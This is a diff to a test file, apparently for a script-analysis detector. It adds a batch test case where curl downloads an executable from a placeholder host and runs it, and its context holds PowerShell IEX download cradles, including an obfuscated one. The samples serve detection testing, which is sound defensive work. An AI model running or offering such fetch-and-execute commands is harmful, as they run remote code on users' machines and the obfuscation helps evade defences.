@@ -12,6 +12,12 @@ const cradle = "IEX(New-Object Net.WebClient).DownloadString('http://files.test/
 /** Language, source, traits that must be seen, and text that a layer or URL must hold. */
 const cases: readonly (readonly [string, ScriptLanguage, string, readonly string[]])[] = [
   [
+    'what was fetched is started behind an address, without a blank between them',
+    'batch',
+    'curl -so a.exe http://files.example/a.exe&&a.exe\r\n',
+    ['runs_what_it_fetched'],
+  ],
+  [
     'concatenation and -f',
     'powershell',
     "$a='IE'+'X'; $u=('{1}{0}' -f 'iles.test/x.ps1','http://f'); & $a (New-Object Net.WebClient).DownloadString($u)",
